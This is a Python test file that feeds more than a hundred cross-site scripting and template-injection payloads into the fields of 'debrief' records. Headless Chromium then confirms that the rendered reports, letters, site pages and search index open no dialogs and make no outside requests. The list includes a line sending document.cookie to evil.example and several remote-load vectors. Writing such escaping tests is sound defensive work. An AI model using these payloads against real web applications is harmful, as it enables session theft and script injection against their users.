"""Hostile text in every field of a debrief, through every HTML output (the report for both audiences, the letter,
the site's pages and its search index), loaded in headless Chromium with the DevTools protocol recording any
dialog a script opens (every vector calls alert) and any request that leaves the output's own folder: none."""
import json
import os
import subprocess
import sys
import time
import urllib.parse

import pytest

sys.path.insert(0, os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
from chromium import Browser, find_chromium  # noqa: E402

ROOT = os.path.abspath(os.path.join(os.path.dirname(__file__), "..", ".."))
BIN = os.environ.get("DEBRIEF_BIN", os.path.join(ROOT, ".build", "debug", "debrief"))

A = "alert(1)"
BASE = [
    "<script>{a}</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<img src=x onerror={a}>", "<IMG SRC=\"javascript:{a}\">",
    "<svg onload={a}>", "<svg><script>{a}</script></svg>", "\"><script>{a}</script>", "'><img src=x onerror={a}>",
    "</title><script>{a}</script>", "</textarea><script>{a}</script>", "</script><script>{a}</script>",
    "<iframe src=\"javascript:{a}\"></iframe>", "<iframe srcdoc=\"<script>{a}</script>\">", "<body onload={a}>",
    "<details open ontoggle={a}>", "<input autofocus onfocus={a}>", "<video><source onerror={a}>", "<audio src=x onerror={a}>",
    "<object data=\"javascript:{a}\">", "<embed src=\"javascript:{a}\">", "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import 'http://evil.example/x.css';</style>", "<meta http-equiv=refresh content=\"0;url=javascript:{a}\">",
    "<base href=//evil.example/>", "<form action=javascript:{a}><button>x</button></form>", "<math><mi xlink:href=\"javascript:{a}\">x</mi></math>",
    "<a href=\"javascript:{a}\">x</a>", "<a href=\"JaVaScRiPt:{a}\">x</a>", "<a href=\"&#106;avascript:{a}\">x</a>",
    "<a href=\"&#x6A;avascript:{a}\">x</a>", "<a href=\"java&#x09;script:{a}\">x</a>", "<a href=\" javascript:{a}\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>", "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
    "[x](javascript:{a})", "[x](JAVASCRIPT:{a})", "[x](javascript&#58;{a})", "[x](java%0ascript:{a})", "[x](vbscript:msgbox(1))",
    "[x](data:text/html,<script>{a}</script>)", "[x](<javascript:{a}>)", "[x]( javascript:{a})", "![x](javascript:{a})",
    "![x](https://evil.example/p.png)", "![x](//evil.example/p.png)", "![x](data:image/svg+xml,<svg onload={a}>)",
    "[x][r]\n\n[r]: javascript:{a}", "<javascript:{a}>", "<https://evil.example/?q=<script>{a}</script>>",
    "{{{{constructor.constructor('{a}')()}}}}", "{{{{#with this}}}}{a}{{{{/with}}}}", "${{{a}}}", "#{{{a}}}", "<%= {a} %>",
    "{{{{7*7}}}} {{{{> site-nav}}}}", "\u2028<script>{a}</script>\u2029", "<!--<script>{a}</script>-->", "<!-- open comment",
    "```\n<script>{a}</script>\n", "~~~html\n<script>{a}</script>", "`<script>{a}</script>`", "\\<script>{a}\\</script>",
    "&lt;script&gt;{a}&lt;/script&gt;", "&#60;script&#62;{a}&#60;/script&#62;", "\\u003cscript\\u003e{a}\\u003c/script\\u003e",
    "<scr<script>ipt>{a}</scr</script>ipt>", "<<script>script>{a}<</script>/script>", "<script\n>{a}</script\n>",
    "<img src=x:x onerror=\"{a}\"/>", "<img/src=x/onerror={a}>", "<svg/onload={a}>", "<a onmouseover={a}>x</a>",
    "<div style=\"background:url(javascript:{a})\">", "<div style=\"width:expression({a})\">", "<x onclick={a}>click",
    "javascript:{a}", "JaVaScRiPt:{a}", "vbscript:msgbox(1)", "data:text/html,<script>{a}</script>",
    "\"onmouseover=\"{a}", "' onmouseover='{a}", "\" autofocus onfocus=\"{a}", "<select onfocus={a} autofocus>",
    "<keygen autofocus onfocus={a}>", "<marquee onstart={a}>", "<isindex type=image src=1 onerror={a}>",
    "<table background=\"javascript:{a}\">", "<img dynsrc=\"javascript:{a}\">", "<bgsound src=\"javascript:{a}\">",
    "<frameset onload={a}>", "<template><script>{a}</script></template>", "<noscript><p title=\"</noscript><img src=x onerror={a}>\">",
    "<svg><a xlink:href=\"javascript:{a}\"><text x=20 y=20>x</text></a></svg>", "<svg><animate onbegin={a} attributeName=x dur=1s>",
    "<img src=\"x` `<script>{a}</script>\"` `>", "<script>fetch('https://evil.example/'+document.cookie)</script>",
    "<img src=https://evil.example/track.gif>", "<a ping=https://evil.example/ href=#>x</a>", "](javascript:{a})[",
    "[x](#\"><script>{a}</script>)", "[x](https://example.com \"\"><script>{a}</script>\")", "@<script>{a}</script>",
    "#<script>{a}</script>", "<script>{a}</script>@example.com", "\u202e<script>{a}</script>", "\x3cscript>{a}\x3c/script>",
]
VECTORS = [v.format(a=A) for v in BASE]


def record(i, v):
    q = json.dumps
    return f"""debrief: 1
format: client-recovery
title: {q("Vector " + str(i) + " " + v)}
date: 2026-11-{(i % 28) + 1:02d}
status: final
client: {q("Client " + v)}
project: {q(v)}
participants:
  - name: {q("Person " + v)}
    side: client
    role: {q(v)}
sections:
  dialogue: {q(v)}
  summary: {q(v)}
  timeline:
    - text: {q(v)}
      at: 2026-10-01 10:00
  facts:
    - text: {q(v)}
      side: client
      tags: [{q(v)}]
  mistakes:
    - text: {q(v)}
      side: client
      counterfactual: {q(v)}
  lessons:
    - text: {q(v)}
      tags: [{q("t" + str(i))}]
  remedies:
    - text: {q(v)}
      chosen: true
  actions:
    - text: {q(v)}
      owner: {q("Owner " + v)}
      due: 2026-12-01
"""


@pytest.fixture(scope="module")
def outputs(tmp_path_factory):
    d = tmp_path_factory.mktemp("hostile")
    env = dict(os.environ, DEBRIEF_TODAY="2026-11-23")
    subprocess.run([BIN, "init"], cwd=str(d), env=env, check=True, capture_output=True)
    for i, v in enumerate(VECTORS):
        (d / "debriefs" / f"v{i:03d}.yml").write_text(record(i, v), encoding="utf-8")
    r = subprocess.run([BIN, "site", "-o", "site"], cwd=str(d), env=env, capture_output=True, text=True)
    assert r.returncode == 0, r.stderr[-2000:]
    pages = {"site": d / "site"}
    singles = d / "single"
    singles.mkdir()
    for i in range(0, len(VECTORS), 7):
        f = f"debriefs/v{i:03d}.yml"
        for args, name in [(["render", f, "--to", "html"], f"team-{i}.html"),
                           (["render", f, "--to", "html", "--audience", "client", "--allow-names"], f"client-{i}.html"),
                           (["letter", f, "--to", "html", "--allow-names"], f"letter-{i}.html")]:
            r = subprocess.run([BIN] + args + ["-o", str(singles / name)], cwd=str(d), env=env, capture_output=True, text=True)
            assert r.returncode == 0, (args, r.stderr[-1000:])
    pages["single"] = singles
    return pages


@pytest.fixture(scope="module")
def browser():
    b = Browser(find_chromium())
    b.send("Page.enable")
    yield b
    b.close()


def visit(browser, path, folder, settle=0.3):
    browser.open(str(path), 1000)
    time.sleep(settle)
    browser.send("Runtime.evaluate", expression="1")   # collect events that came meanwhile
    dialogs = [e for e in browser.events if e.get("method") == "Page.javascriptDialogOpening"]
    outside = [u for u in browser.requests() if not u.startswith("file://" + str(folder))]
    return dialogs, outside


def test_enough_vectors():
    assert len(VECTORS) >= 100


def test_site_pages_and_search_run_nothing(browser, outputs):
    site = outputs["site"]
    pages = sorted(p for p in site.rglob("*.html"))
    assert len(pages) > len(VECTORS)
    for page in pages:
        dialogs, outside = visit(browser, page, site, settle=0.05)
        assert not dialogs, (page, dialogs)
        assert not outside, (page, outside)
    for q in ["script alert", "javascript", "evil example", "constructor", "onerror"]:
        dialogs, outside = visit(browser, f"{site}/search.html?q={urllib.parse.quote(q)}", site, settle=0.8)
        assert not dialogs and not outside, (q, dialogs, outside)
        assert browser.eval("document.querySelectorAll('#search-results li').length") > 0, q
        assert browser.eval("document.querySelectorAll('#search-results script, #search-results img, #search-results iframe').length") == 0


def test_reports_and_letters_run_nothing(browser, outputs):
    folder = outputs["single"]
    pages = sorted(folder.glob("*.html"))
    assert len(pages) >= 45
    for page in pages:
        dialogs, outside = visit(browser, page, folder, settle=0.05)
        assert not dialogs, (page, dialogs)
        assert not outside, (page, outside)


def test_the_hook_sees_a_script_and_a_request(browser, tmp_path):
    # A page that does run a script and does ask elsewhere: the recording must see both, or the tests above prove nothing.
    page = tmp_path / "control.html"
    page.write_text("<!DOCTYPE html><img src=\"https://evil.example/p.png\"><script>alert(1)</script>", encoding="utf-8")
    browser.events.clear()
    browser.send("Network.enable")
    browser.send("Page.navigate", url="file://" + str(page))
    dialog = browser.wait_event("Page.javascriptDialogOpening")
    browser.send("Page.handleJavaScriptDialog", accept=True)
    browser.wait_event("Page.loadEventFired")
    assert dialog["params"]["message"] == "1"
    assert any(u.startswith("https://evil.example/") for u in browser.requests())
